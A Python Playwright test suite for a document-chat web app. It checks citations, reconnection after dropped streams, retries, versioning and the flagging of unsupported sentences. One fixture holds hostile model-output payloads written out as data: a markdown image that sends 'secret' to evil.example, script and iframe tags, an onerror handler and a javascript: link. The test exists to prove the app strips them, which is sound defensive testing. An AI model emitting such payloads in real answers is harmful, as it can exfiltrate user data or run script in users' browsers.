"""The chat in a real browser: pages with cited words, streams that break, answers that would do harm, keys alone."""

import asyncio
import re
from collections.abc import AsyncGenerator, Mapping
from contextlib import suppress
from io import BytesIO

import pymupdf
import pytest
from playwright.async_api import Browser, Route, expect
from playwright.async_api import Error as PlaywrightError

from ringfence.client import Client
from tests.browser.visitor import PASSWORD, QUESTION, Visitor
from tests.engine import Live
from tests.fakes.tcp_proxy import Proxy

pytestmark = pytest.mark.browser

SENTENCE = "The notice period is three months."
ANSWER = f"{SENTENCE[:-1]} [1]. It is so for all."


def handbook() -> bytes:
    with pymupdf.open() as document:
        for text in ("The shop is in the lane.\nIt opens at nine.", SENTENCE, "The kitchen is cleaned on Fridays."):
            document.new_page(width=300, height=400).insert_text((20, 40), text)
        return bytes(document.tobytes())


async def visit(
    browser: Browser,
    live: Live,
    *,
    url: str | None = None,
    email: str = "ada@example.com",
    more: Mapping[str, bytes] = {},  # never changed
) -> Visitor:
    """Somebody with a document or more, whose browser is signed in, at the chat."""
    async with live.account(email, PASSWORD) as client:
        for name, content in {"handbook.pdf": handbook(), **more}.items():
            await ready(client, name, content)
    visitor = await Visitor.arrive(browser, url or live.url, email)
    body = {"email": email, "password": PASSWORD}
    response = await visitor.context.request.post("/api/v1/auth/cookie", data=body, headers={"Origin": visitor.url})
    assert response.ok
    await visitor.page.goto("/")
    return visitor


async def ready(client: Client, name: str, content: bytes) -> None:
    document, _ = await client.upload(name, BytesIO(content))
    async with asyncio.timeout(60):
        while (await client.document(document.document_id)).state != "ready":
            await asyncio.sleep(0.05)


@pytest.fixture
async def proxy(live: Live) -> AsyncGenerator[Proxy]:
    """What stands between browser and engine, and can be cut."""
    proxy = Proxy(live.url)
    await proxy.restore()
    yield proxy
    await proxy.cut()


async def test_a_citation_opens_its_page_with_keys_alone(browser: Browser, live: Live) -> None:
    live.models.script(answer=ANSWER)
    ada = await visit(browser, live)
    page, keys = ada.page, ada.page.keyboard
    await expect(page.get_by_role("textbox", name="Question")).to_be_focused()
    await expect(page.get_by_role("button", name="Answers by")).to_be_hidden()  # there is no choice
    await keys.type(QUESTION)
    await keys.press("Enter")
    await expect(page.get_by_label("Question", exact=True).get_by_text(QUESTION)).to_be_visible()
    await expect(ada.answer).to_have_class(re.compile("rendered"))
    await expect(page).to_have_url(re.compile("/chats/"))
    await keys.press("Escape")
    chip = ada.answer.get_by_role("button", name="Source 1: handbook.pdf, page 2")
    await chip.focus()
    await keys.press("Enter")
    viewer = page.get_by_role("complementary", name="Document")
    await expect(viewer.get_by_label("Page", exact=True).first).to_be_visible()
    await expect(viewer.get_by_role("img", name="Page 2")).to_be_visible()
    await expect(viewer.locator(".text-layer")).to_have_text(SENTENCE)
    hit, sheet = await viewer.locator(".hit").bounding_box(), await viewer.locator(".sheet").bounding_box()
    assert hit
    assert sheet
    assert 0.05 < (hit["x"] - sheet["x"]) / sheet["width"] < 0.1
    assert 0.06 < (hit["y"] - sheet["y"]) / sheet["height"] < 0.1
    await keys.press("ArrowRight")
    await expect(viewer.get_by_role("img", name="Page 3")).to_be_visible()
    await expect(viewer.locator(".hit")).to_have_count(0)
    await keys.press("Escape")
    await expect(viewer).to_be_hidden()
    await expect(chip).to_be_focused()
    await keys.press("Escape")
    await keys.press("Control+k")
    await keys.type("handb")
    await expect(page.get_by_role("option")).to_have_text(["handbook.pdf"])
    await keys.press("Enter")
    await expect(page.get_by_role("img", name="Page 1")).to_be_visible()
    assert ada.complaints == []


async def test_an_answer_survives_a_reload_and_a_lost_connection(browser: Browser, live: Live, proxy: Proxy) -> None:
    live.models.script(answer=ANSWER, stall_after=3)
    ada = await visit(browser, live, url=f"http://127.0.0.1:{proxy.port}")
    await ada.ask(QUESTION)
    await expect(ada.answer).to_have_text("The notice period")
    await expect(ada.page).to_have_url(re.compile("/chats/"))
    await ada.page.reload()
    await expect(ada.answer).to_have_text("The notice period")
    await proxy.cut()
    await expect(ada.status).to_contain_text("Reconnecting")
    live.models.release()
    await proxy.restore()
    await expect(ada.answer).to_have_class(re.compile("rendered"))
    await expect(ada.answer).to_have_text(f"{SENTENCE[:-1]}1. It is so for all.")
    await expect(ada.answer).to_have_count(1)
    assert len(live.models.chats) == 1  # the model was asked once
    lost = "net::ERR"  # of requests on the connection that was cut
    assert [one for one in ada.complaints if lost not in one] == []


HOSTILE = """\
![secret](https://evil.example/p.png?q=secret) <img src="https://evil.example/i.png" onerror="alert(1)">
<script src="https://evil.example/x.js"></script> [click](javascript:alert(1)) [site](https://site.example/) [1][9].

| a | b |
|---|---|
| <iframe src="https://evil.example/"></iframe> | **bold** |
"""


async def test_a_hostile_answer_fetches_nothing_and_a_small_screen_holds_it(browser: Browser, live: Live) -> None:
    live.models.script(answer=HOSTILE)
    ada = await visit(browser, live)
    await ada.page.set_viewport_size({"width": 390, "height": 780})
    asked: list[str] = []
    ada.context.on("request", lambda request: asked.append(request.url))
    await ada.ask(f"{QUESTION} I have read https://site.example/ on it.")
    await expect(ada.answer).to_have_class(re.compile("rendered"))
    await expect(ada.answer.get_by_role("link")).to_have_count(1)  # addresses that nobody named have been left out
    assert await ada.answer.locator("img, script, iframe, [onerror]").count() == 0
    await expect(ada.answer.get_by_role("link", name="site")).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(ada.answer.locator("strong")).to_have_text("bold")
    wide = "[document.documentElement.scrollWidth, innerWidth]"
    assert await ada.page.evaluate(wide) == [390, 390]
    await ada.answer.get_by_role("button", name="Source 1").first.click()
    await expect(ada.page.get_by_role("img", name="Page")).to_be_visible()
    assert await ada.page.evaluate(wide) == [390, 390]
    assert [url for url in asked if not url.startswith(live.url)] == []
    assert ada.complaints == []


UNAVAILABLE = {"status": 503, "json": {"code": "model_busy", "detail": "Too busy.", "status": 503, "title": "Busy"}}


async def test_what_fails_or_is_stopped_is_tried_again_as_it_was(browser: Browser, live: Live) -> None:
    live.models.script(answer=ANSWER)
    ada = await visit(browser, live)
    page = ada.page
    await ada.ask(QUESTION)
    await expect(ada.answer).to_have_class(re.compile("rendered"))
    await page.route("**/regenerate", lambda route: route.fulfill(**UNAVAILABLE))
    await page.get_by_role("button", name="Answer again").click()
    await expect(page.get_by_text("Too busy.")).to_be_visible()
    await page.unroute("**/regenerate")
    await page.get_by_role("button", name="Try again").click()
    await expect(page.get_by_text("2 of 2")).to_be_visible()
    await page.reload()
    await expect(page.get_by_role("article", name="Question")).to_have_count(1)

    held = asyncio.Event()

    async def hold(route: Route) -> None:
        await held.wait()
        with suppress(PlaywrightError):  # it was given up
            await route.continue_()

    await page.route("**/messages", hold)
    await page.get_by_role("textbox", name="Question").fill("And what of the kitchen?")
    await page.keyboard.press("Enter")
    await page.get_by_role("button", name="Stop").click()
    await expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    await page.unroute("**/messages")
    held.set()
    await page.get_by_role("button", name="Try again").click()
    await expect(ada.answer).to_have_class(re.compile("rendered"))
    await expect(page.get_by_role("article", name="Question")).to_have_count(2)
    await expect(page.get_by_role("alert").filter(has_text="valid")).to_have_count(0)
    assert ada.complaints == []


async def test_words_are_selected_line_by_line_and_sources_keep_to_their_cards(browser: Browser, live: Live) -> None:
    live.models.script(answer=ANSWER)
    house = f"# Leaving\n\n{SENTENCE} So it is in house number {{}}, whatever its name may be.".format
    more = {f"handbook-of-the-house-number-{number}.md": house(number).encode() for number in range(4)}
    ada = await visit(browser, live, more=more)
    await ada.ask(QUESTION)
    await expect(ada.answer).to_have_class(re.compile("rendered"))
    too_wide = "all => all.filter((one) => one.scrollWidth > one.clientWidth).length"
    assert await ada.sources.count() > 2
    assert await ada.page.locator(".source").evaluate_all(too_wide) == 0
    document = (await (await ada.context.request.get("/api/v1/documents?name=handbook.pdf")).json())["documents"][0]
    await ada.see(f"/documents/{document['document_id']}")
    await expect(ada.page.locator(".text-layer .line")).to_have_count(2)
    selected = "(layer) => { getSelection().selectAllChildren(layer); return getSelection().toString(); }"
    lines = (await ada.page.locator(".text-layer").evaluate(selected)).splitlines()
    assert [line for line in lines if line] == ["The shop is in the lane.", "It opens at nine."]


async def test_versions_feedback_and_doubts(browser: Browser, live: Live) -> None:
    live.models.script(answer=f"{SENTENCE} Whales sing operas of Verdi beneath nine frozen moons [1].")
    ada = await visit(browser, live, more={"corrections.md": SENTENCE.replace("three", "four").encode()})
    page = ada.page
    await ada.ask(QUESTION)
    await expect(ada.answer.locator(".unsupported").first).to_contain_text("Whales sing operas")
    await expect(page.get_by_text("1 sentence that your documents do not support")).to_be_visible()
    await expect(page.get_by_text("Your documents disagree")).to_be_visible()
    await expect(page.locator(".notes .cite")).to_have_attribute("title", "corrections.md, page 1")
    await page.get_by_role("button", name="Good answer").click()
    await expect(page.get_by_role("button", name="Good answer")).to_have_attribute("aria-pressed", "true")
    await page.reload()
    await expect(page.get_by_role("button", name="Good answer")).to_have_attribute("aria-pressed", "true")
    await expect(page.get_by_text("Your documents disagree")).to_be_visible()
    await expect(page.locator(".notes .cite")).to_have_attribute("title", "corrections.md, page 1")
    await expect(ada.answer.locator(".unsupported").first).to_contain_text("Whales sing operas")

    live.models.script(answer="Otherwise [1].")
    await page.get_by_role("button", name="Answer again").click()
    await expect(page.get_by_text("2 of 2")).to_be_visible()
    await expect(ada.answer).to_have_text("Otherwise1.")
    await page.get_by_role("button", name="Previous answer").click()
    await expect(ada.answer).to_contain_text("Whales sing")
    await page.get_by_role("button", name="Edit the question").click()
    await page.get_by_role("textbox", name="Edit the question").fill("And how long is the notice period?")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("group", name="Versions of the question")).to_contain_text("2 of 2")
    await expect(ada.answer).to_have_text("Otherwise1.")
    await page.get_by_role("button", name="Delete the chat").click()
    await page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    await expect(page.get_by_text("Your chats will be here.")).to_be_visible()
    assert ada.complaints == []
